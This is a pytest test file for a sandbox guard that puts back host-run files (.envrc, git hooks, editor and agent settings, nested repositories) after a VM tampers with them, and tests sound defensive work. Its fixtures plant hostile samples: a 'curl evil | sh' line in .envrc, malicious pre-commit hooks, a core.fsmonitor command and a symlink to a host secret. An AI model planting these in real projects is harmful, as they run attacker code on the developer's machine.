"""The guard while the VM runs: what the VM changes of what the host runs is out of the host's
way within one round of the idle reaper, and told at the next review."""

from __future__ import annotations

import errno
import json
import os
from pathlib import Path

import pytest

from opencode_sandbox.app import App
from opencode_sandbox.cli.render import render_status
from opencode_sandbox.core.guard import COPY_LIMIT, OLD_REVIEW_FOLDER
from opencode_sandbox.services.guard import aside as guard_aside
from opencode_sandbox.services.guard import files as guard_files
from opencode_sandbox.services.guard.aside import MOVE_COPY_LIMIT
from opencode_sandbox.services.guard.moves import Notes, catch_while_running
from opencode_sandbox.services.guard.reviews import review, status
from tests.services.app_fakes import SLUG, messages
from tests.services.test_guard import git, review_root


@pytest.fixture
def checkout(tmp_path: Path) -> Path:
    root = tmp_path / "checkout"
    root.mkdir()
    git(root, "init", "-q", "-b", "main")
    (root / ".envrc").write_text("export A=1\n")
    (root / ".husky").mkdir()
    (root / ".husky" / "keep").write_text("")
    git(root, "add", ".")
    assert git(root, "commit", "-q", "-m", "init").returncode == 0
    return root


def catch(app: App, log: list[str]) -> Notes:
    return catch_while_running(app.state.project_dir(SLUG).parent, SLUG, log.append)


def test_a_guarded_file_the_vm_changes_is_put_back_within_one_round_and_told_at_the_review(
        app: App, checkout: Path) -> None:
    review(app, vm_may_write_after=True)  # the start
    (checkout / ".envrc").write_text("export A=1\ncurl evil | sh \x1b[2K\n")
    (checkout / ".husky" / "pre-commit").write_text("#!/bin/sh\nevil\n")
    (checkout / ".husky" / "pre-commit").chmod(0o755)
    log: list[str] = []

    notes = catch(app, log)

    assert (checkout / ".envrc").read_text() == "export A=1\n"
    assert not (checkout / ".husky" / "pre-commit").exists()
    assert [held.change.split(":")[0] for held in notes.held] == [".envrc", ".husky/pre-commit"]
    kept = Path(notes.held[0].kept)
    assert kept.is_relative_to(review_root(app)) and "curl evil" in kept.read_text()
    hook = Path(notes.held[1].kept)
    assert hook.read_text() == "#!/bin/sh\nevil\n" and hook.stat().st_mode & 0o111 == 0
    assert any("put back as recorded: .envrc" in line for line in log)
    shown = render_status(status(app), "table")
    assert "files the VM changed while it ran, put back as they were" in shown and ".husky/pre-commit: added" in shown
    assert json.loads(render_status(status(app), "json"))["result"]["state"] == "changed"

    outcome = review(app, vm_may_write_after=True)  # the detach

    said = messages(app)
    assert "2 file(s) the host runs were changed while the VM ran and put back" in said
    assert "+curl evil | sh \\x1b[2K" in said, "the diff is shown, its escape sequence escaped"
    assert not outcome.by_vm, "nothing is left to revert"
    assert catch(app, []) == Notes(), "told once and nothing new"
    assert "files the VM changed" not in render_status(status(app), "table")


def test_a_removed_file_and_a_link_in_place_of_one_come_back(app: App, checkout: Path, tmp_path: Path) -> None:
    (tmp_path / "outside").write_text("the host's\n")
    review(app, vm_may_write_after=True)
    (checkout / ".envrc").unlink()
    (checkout / ".envrc").symlink_to(tmp_path / "outside")
    (checkout / ".husky" / "keep").unlink()

    notes = catch(app, [])

    assert not (checkout / ".envrc").is_symlink() and (checkout / ".envrc").read_text() == "export A=1\n"
    assert (checkout / ".husky" / "keep").exists()
    assert (tmp_path / "outside").read_text() == "the host's\n", "nothing written through the link"
    assert {held.change.split(":")[0] for held in notes.held} == {".envrc", ".husky/keep"}


def test_a_nested_repository_is_moved_aside_whole(app: App, checkout: Path) -> None:
    review(app, vm_may_write_after=True)
    nested = checkout / "sub"
    git(checkout, "init", "-q", str(nested))
    git(nested, "config", "core.fsmonitor", "touch ran; false")

    notes = catch(app, [])

    assert not (nested / ".git").exists() and notes.moved[0].startswith(f"sub/.git -> {review_root(app)}/")
    told = review(app, vm_may_write_after=True) and messages(app)
    assert ("git director(y/ies), or link(s) into what was set aside, that the VM made below the checkout were "
            "moved aside") in told


def test_the_guarded_names_count_in_every_folder_below_the_top(app: App, checkout: Path) -> None:
    web = checkout / "packages" / "web"
    (web / ".vscode").mkdir(parents=True)
    (web / ".vscode" / "settings.json").write_text('{"editor.tabSize": 2}\n')  # the user's, before the start
    review(app, vm_may_write_after=True)
    (web / ".vscode" / "settings.json").write_text('{"python.defaultInterpreterPath": "/workspace/pwn"}\n')
    (web / ".claude").mkdir()
    (web / ".claude" / "settings.json").write_text('{"hooks": {}}\n')
    (web / "opencode.json").write_text('{"mcp": {}}\n')
    (checkout / "a" / "b" / "c").mkdir(parents=True)
    (checkout / "a" / "b" / "c" / ".envrc").write_text("id\n")

    notes = catch(app, [])

    assert sorted(held.change.split(":")[0] for held in notes.held) == [
        "a/b/c/.envrc", "packages/web/.claude/settings.json", "packages/web/.vscode/settings.json",
        "packages/web/opencode.json"]
    assert (web / ".vscode" / "settings.json").read_text() == '{"editor.tabSize": 2}\n'
    assert not (web / ".claude" / "settings.json").exists() and not (web / "opencode.json").exists()
    assert not (checkout / "a" / "b" / "c" / ".envrc").exists()
    assert catch(app, []) == Notes(), "the versions kept for review are not guarded again"
    assert not review(app, vm_may_write_after=True).by_vm


def test_a_guarded_name_below_the_top_that_the_vm_removes_comes_back_at_the_review(app: App, checkout: Path) -> None:
    mine = checkout / "tools" / ".envrc"
    mine.parent.mkdir()
    mine.write_text("export MINE=1\n")
    review(app, vm_may_write_after=True)
    mine.unlink()

    outcome = review(app, vm_may_write_after=True, ask=lambda question: True)

    assert [(change.path, change.what) for change in outcome.by_vm] == [("tools/.envrc", "removed")]
    assert mine.read_text() == "export MINE=1\n"


def test_nothing_is_touched_while_no_vm_may_write(app: App, checkout: Path) -> None:
    review(app, vm_may_write_after=False)  # a stop: what follows is the user's
    (checkout / ".envrc").write_text("mine\n")

    assert catch(app, []) == Notes()
    assert (checkout / ".envrc").read_text() == "mine\n"


def test_a_file_whose_earlier_version_was_too_big_to_keep_is_left_to_the_review(app: App, checkout: Path) -> None:
    big = checkout / ".husky" / "big.bin"
    big.write_bytes(b"\0" * (COPY_LIMIT + 1))
    review(app, vm_may_write_after=True)
    big.write_bytes(b"\1")

    assert catch(app, []) == Notes(left_for_review=1), "nothing to put back: left to the review, and said so"
    assert big.read_bytes() == b"\1"
    assert [change.path for change in review(app, vm_may_write_after=False).by_vm] == [".husky/big.bin"]


# The review folder on another file system than the checkout: a rename fails with EXDEV, and what
# the VM made is copied, never through a link and up to a bound, then removed.


@pytest.fixture
def across_file_systems(monkeypatch: pytest.MonkeyPatch) -> None:
    """Every rename from one folder to another fails as between two file systems; one within a
    folder (a restore's staging file renamed into place) works."""
    real = os.rename

    def rename(source: str, target: str, *, src_dir_fd: int | None = None, dst_dir_fd: int | None = None) -> None:
        if src_dir_fd != dst_dir_fd:
            raise OSError(errno.EXDEV, os.strerror(errno.EXDEV))
        real(source, target, src_dir_fd=src_dir_fd, dst_dir_fd=dst_dir_fd)

    monkeypatch.setattr(guard_files.os, "rename", rename)
    monkeypatch.setattr(guard_aside, "_copied", guard_aside._Budget(guard_aside.COPY_QUOTA))


def everything_below(folder: Path) -> list[str]:
    return sorted(path.relative_to(folder).as_posix() for path in folder.rglob("*"))


@pytest.mark.usefixtures("across_file_systems")
def test_across_file_systems_a_nested_repository_is_copied_without_following_a_link_and_removed(
        app: App, checkout: Path, tmp_path: Path) -> None:
    review(app, vm_may_write_after=True)
    secret = tmp_path / "secret"
    secret.write_text("the host's\n")
    nested = checkout / "sub"
    git(checkout, "init", "-q", str(nested))
    git(nested, "config", "core.fsmonitor", "touch ran; false")
    hook = nested / ".git/hooks/pre-commit"
    hook.write_text("#!/bin/sh\nevil\n")
    hook.chmod(0o4755)
    (nested / ".git/leak").symlink_to(secret)
    (checkout / ".envrc").write_text("curl evil | sh\n")
    (checkout / ".envrc").chmod(0o755)

    notes = catch(app, [])

    assert not (nested / ".git").exists() and (checkout / ".envrc").read_text() == "export A=1\n"
    [moved] = notes.moved
    kept = Path(moved.split(" -> ")[1])
    assert moved.startswith("sub/.git -> ") and kept.is_relative_to(review_root(app))
    assert "touch ran; false" in (kept / "config").read_text()
    assert (kept / "hooks/pre-commit").read_text() == "#!/bin/sh\nevil\n"
    assert os.readlink(kept / "leak") == str(secret), "a link is copied as the link it is"
    for path in kept.rglob("*"):
        if not path.is_symlink():
            assert path.is_dir() or path.stat().st_mode & 0o7111 == 0, f"{path} keeps a bit that runs it"
    envrc = Path(notes.held[0].kept)
    assert envrc.read_text() == "curl evil | sh\n" and envrc.stat().st_mode & 0o111 == 0
    assert not (checkout / OLD_REVIEW_FOLDER).exists()


@pytest.mark.usefixtures("across_file_systems")
def test_across_file_systems_what_is_larger_than_the_bound_is_removed_and_no_part_of_it_kept(
        app: App, checkout: Path) -> None:
    review(app, vm_may_write_after=True)
    nested = checkout / "vendor/lib"
    git(checkout, "init", "-q", str(nested))
    for index in range(4):  # each below the bound, together above it: some are copied before it is reached
        with (nested / ".git/objects" / f"pack{index}").open("wb") as handle:
            handle.truncate(MOVE_COPY_LIMIT // 3)
    log: list[str] = []

    notes = catch(app, log)

    assert not (nested / ".git").exists(), "removed all the same"
    assert notes.moved == ("vendor/lib/.git -> removed (not kept: larger than 64 MiB)",)
    assert any(line == "removed the git directory the VM made at vendor/lib/.git (not kept: larger than 64 MiB)"
               for line in log), log
    [stamp] = [folder for folder in review_root(app).iterdir()]
    assert everything_below(stamp) == [], "no part of a copy is left"
    review(app, vm_may_write_after=True)
    assert "vendor/lib/.git -> removed (not kept: larger than 64 MiB)" in messages(app)


@pytest.mark.usefixtures("across_file_systems")
def test_across_file_systems_a_sparse_file_of_4_gib_is_never_read_and_the_guarded_file_comes_back(
        app: App, checkout: Path) -> None:
    import time

    review(app, vm_may_write_after=True)
    with (checkout / ".envrc").open("wb") as handle:
        handle.truncate(4 << 30)
    began = time.monotonic()

    notes = catch(app, [])

    assert time.monotonic() - began < 5
    assert (checkout / ".envrc").read_text() == "export A=1\n"
    [held] = notes.held
    assert held.kept == "" and held.line().endswith(", the VM's version removed (not kept: larger than 64 MiB)")
    assert everything_below(review_root(app)) == [path.name for path in review_root(app).iterdir()]


@pytest.mark.usefixtures("across_file_systems")
def test_across_file_systems_a_copy_that_fails_leaves_nothing_behind(app: App, checkout: Path,
                                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    review(app, vm_may_write_after=True)
    nested = checkout / "sub"
    git(checkout, "init", "-q", str(nested))
    (nested / ".git/objects/last").write_text("x" * 100)
    real_read = os.read
    reads = [0]

    def failing(descriptor: int, size: int) -> bytes:
        reads[0] += 1
        if reads[0] > 5:
            raise OSError(errno.EIO, os.strerror(errno.EIO))
        return real_read(descriptor, size)

    monkeypatch.setattr(guard_files.os, "read", failing)

    notes = catch(app, [])

    assert notes.moved == (f"sub/.git -> removed (not kept: {os.strerror(errno.EIO)})",)
    assert not (nested / ".git").exists()
    assert all(everything_below(stamp) == [] for stamp in review_root(app).iterdir())


@pytest.mark.usefixtures("across_file_systems")
def test_across_file_systems_the_review_keeps_the_vms_version_too(app: App, checkout: Path) -> None:
    review(app, vm_may_write_after=True)
    (checkout / ".husky" / "pre-commit").write_text("#!/bin/sh\nevil\n")
    (checkout / ".husky" / "pre-commit").chmod(0o755)

    outcome = review(app, vm_may_write_after=True)  # no terminal: reverted

    assert outcome.reverted and not (checkout / ".husky" / "pre-commit").exists()
    kept = Path(outcome.review_folder) / ".husky" / "pre-commit"
    assert kept.read_text() == "#!/bin/sh\nevil\n" and kept.stat().st_mode & 0o111 == 0
    assert f"the VM's versions are kept in {outcome.review_folder}" in messages(app)


@pytest.mark.usefixtures("across_file_systems")
def test_across_file_systems_a_repository_1200_folders_deep_is_copied_and_removed(app: App, checkout: Path) -> None:
    """The VM picks the depth: the copy and the removal go down with a list, not recursion."""
    import subprocess

    review(app, vm_may_write_after=True)
    git(checkout, "init", "-q", str(checkout / "sub"))
    folder = os.open(checkout / "sub/.git/objects", os.O_RDONLY)
    for _ in range(1200):
        os.mkdir("d", dir_fd=folder)
        inner = os.open("d", os.O_RDONLY, dir_fd=folder)
        os.close(folder)
        folder = inner
    os.close(os.open("deepest", os.O_WRONLY | os.O_CREAT, 0o755, dir_fd=folder))
    os.close(folder)
    try:
        [moved] = catch(app, []).moved
        kept = Path(moved.split(" -> ")[1])
        assert not (checkout / "sub/.git").exists()
        assert os.path.isfile(os.path.join(kept, "objects", *["d"] * 1200, "deepest"))
    finally:  # pytest's own clean-up recurses once a level
        subprocess.run(["rm", "-rf", "--", str(checkout), str(review_root(app))], check=True)


@pytest.mark.usefixtures("across_file_systems")
def test_across_file_systems_the_copies_of_a_session_stop_at_the_quota_and_then_are_only_removed(
        app: App, checkout: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Ten nested repositories, each holding a file of
    60 MiB that costs the VM nothing (sparse) and put back after every move, took 3.6 GB of the
    host's disk in 50 s."""
    monkeypatch.setattr(guard_aside, "COPY_QUOTA", 3 * MOVE_COPY_LIMIT // 2)
    monkeypatch.setattr(guard_aside, "_copied", guard_aside._Budget(3 * MOVE_COPY_LIMIT // 2))
    review(app, vm_may_write_after=True)
    told: list[str] = []
    for round_ in range(4):
        nested = checkout / f"n{round_}"
        git(checkout, "init", "-q", str(nested))
        with (nested / ".git/objects/pack0").open("wb") as handle:
            handle.write(b"x" * (MOVE_COPY_LIMIT // 2))
        told += catch(app, []).moved
    kept = [line for line in told if "not kept" not in line]
    assert len(kept) == 2, told
    assert all(line.endswith("(not kept: the copies kept for review passed 96 MiB, on another file system than "
                             "the checkout's)") for line in told[2:]), told
    assert not any((checkout / f"n{index}" / ".git").exists() for index in range(4)), "removed all the same"
    used = sum(path.stat().st_blocks * 512 for path in review_root(app).rglob("*") if path.is_file())
    assert used <= 3 * MOVE_COPY_LIMIT // 2
